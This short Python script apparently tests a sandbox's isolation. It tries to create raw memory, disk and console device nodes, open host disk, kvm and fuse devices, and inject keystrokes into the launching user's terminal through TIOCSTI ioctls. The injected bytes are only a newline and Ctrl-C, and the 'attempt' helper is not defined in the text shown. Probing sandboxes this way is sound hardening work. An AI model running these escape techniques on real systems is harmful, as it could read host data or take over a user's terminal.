"""Makes device files, opens disks, and types into the terminal of whoever started the sandbox."""

import fcntl
import glob
import os
import stat
import termios

for name, major, minor in (("memory", 1, 1), ("disk", 254, 0), ("disk", 8, 0), ("console", 5, 1)):
    for folder in ("/tmp", "/dev/shm"):
        path = os.path.join(folder, f"{name}-{major}-{minor}")
        attempt(f"making a {name}", lambda: os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(major, minor)))
for path in (*glob.glob("/dev/[svhx]d*"), *glob.glob("/dev/nvme*"), *glob.glob("/dev/loop*"), "/dev/kvm", "/dev/fuse"):
    attempt(f"opening {path}", lambda: os.open(path, os.O_RDONLY))
for path in ("/dev/tty", "/dev/console", "/dev/tty1", "/proc/self/fd/0", *glob.glob("/dev/pts/[0-9]*")):
    attempt(f"typing into {path}", lambda: fcntl.ioctl(os.open(path, os.O_RDWR), termios.TIOCSTI, b"\n"))
    attempt(f"pasting into {path}", lambda: fcntl.ioctl(os.open(path, os.O_RDWR), 0x541C, b"\x03"))
